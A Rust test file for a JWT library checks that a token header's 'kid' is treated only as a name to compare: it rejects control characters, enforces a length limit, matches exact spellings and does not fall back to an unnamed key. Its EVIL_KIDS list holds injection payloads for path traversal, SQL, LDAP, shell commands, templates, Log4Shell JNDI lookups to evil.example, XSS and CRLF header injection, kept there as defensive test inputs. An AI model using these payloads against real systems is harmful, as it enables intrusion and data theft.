//! The `kid` of a header: a name that is compared, and nothing else.

use crate::support::{Attempt, code, drop, signer};
use rolecall::Algorithm;
use serde_json::json;

#[test]
fn a_kid_has_no_control_characters_and_an_end() {
    let controls = (0..=0x9f_u8).map(char::from).filter(|c| c.is_control());
    for control in controls {
        for kid in [
            format!("{control}key"),
            format!("k{control}ey"),
            format!("key{control}"),
        ] {
            let mut attempt = Attempt::new(Algorithm::ES256);
            attempt.header["kid"] = json!(kid);
            attempt.jwk()["kid"] = json!(kid);
            assert_eq!(code(&attempt.run()), "malformed_header", "{kid:?}");
        }
    }
    for (kid, expected) in [
        ("k".repeat(256), "accepted"),
        ("k".repeat(257), "kid_too_long"),
        ("ü".repeat(128), "accepted"),
        ("ü".repeat(128) + "k", "kid_too_long"),
        (String::new(), "malformed_header"),
    ] {
        let mut attempt = Attempt::new(Algorithm::ES256);
        attempt.header["kid"] = json!(kid);
        attempt.jwk()["kid"] = json!(kid);
        assert_eq!(code(&attempt.run()), expected, "{} bytes", kid.len());
    }
}

/// What a kid was once used for: a path, a query, a command, a template, an address.
#[rustfmt::skip]
const EVIL_KIDS: &[&str] = &[
    "../../../../../../dev/null", "..\\..\\windows\\win.ini", "/dev/null", "/proc/sys/kernel/randomize_va_space",
    "/etc/passwd", "file:///dev/null", "https://evil.example/key", "//evil.example/key", "http://169.254.169.254/",
    "key' OR '1'='1", "x' UNION SELECT 'AA';--", "key\"; DROP TABLE keys; --", "1;SELECT pg_sleep(10)",
    "key)(uid=*))(|(uid=*", "*)(objectClass=*", "| sleep 10", "; id", "$(id)", "`id`", "& ping -c 3 127.0.0.1",
    "${7*7}", "{{7*7}}", "#{7*7}", "${jndi:ldap://evil.example/a}", "<%= 7*7 %>", "<script>alert(1)</script>", "%00",
    "%2e%2e%2f", "key%0d%0aset-cookie:x=1", "%s%s%s%n", "__proto__", "constructor", "*", "%", "_", ".*", "^", "key*",
    "\u{202e}yek", "key\u{200b}",
];

/// A kid is compared and nothing else: each of these is the name of no key, or of the key that has exactly this name.
#[test]
fn an_evil_kid_is_only_a_name() {
    for kid in EVIL_KIDS {
        let mut attempt = Attempt::new(Algorithm::ES256);
        attempt.header["kid"] = json!(kid);
        let error = attempt.run().unwrap_err();
        assert_eq!(error.code(), "unknown_key", "{kid}");
        let message = error.to_string();
        assert!(message.is_ascii() && !message.contains('\n'), "{message}");
        attempt.jwk()["kid"] = json!(kid);
        assert_eq!(code(&attempt.run()), "accepted", "{kid}");
    }
}

#[test]
fn a_kid_has_one_spelling() {
    for kid in [
        "Key",
        "KEY",
        "ke",
        "keyy",
        " key",
        "key ",
        "key/",
        "\"key\"",
        "k%65y",
        "ｋｅｙ",
        "kеy",
        "ke\u{301}y",
        "key,key",
        "0",
    ] {
        let mut attempt = Attempt::new(Algorithm::ES256);
        attempt.header["kid"] = json!(kid);
        assert_eq!(code(&attempt.run()), "unknown_key", "{kid}");
    }
    // Two forms of one letter are two names.
    let mut attempt = Attempt::new(Algorithm::ES256);
    attempt.header["kid"] = json!("\u{e9}");
    attempt.jwk()["kid"] = json!("e\u{301}");
    assert_eq!(code(&attempt.run()), "unknown_key");
}

/// A token with a kid is never verified with a key that has none, though that key would fit.
#[test]
fn a_kid_does_not_fall_back_to_a_key_without() {
    let mut attempt = Attempt::new(Algorithm::ES256);
    let mut nameless = signer(Algorithm::ES256).jwk("x");
    drop(&mut nameless, "kid");
    attempt.keys = Some(vec![nameless, signer(Algorithm::RS256).jwk("other")]);
    assert_eq!(code(&attempt.run()), "unknown_key");
    drop(&mut attempt.header, "kid");
    assert_eq!(code(&attempt.run()), "accepted");
}
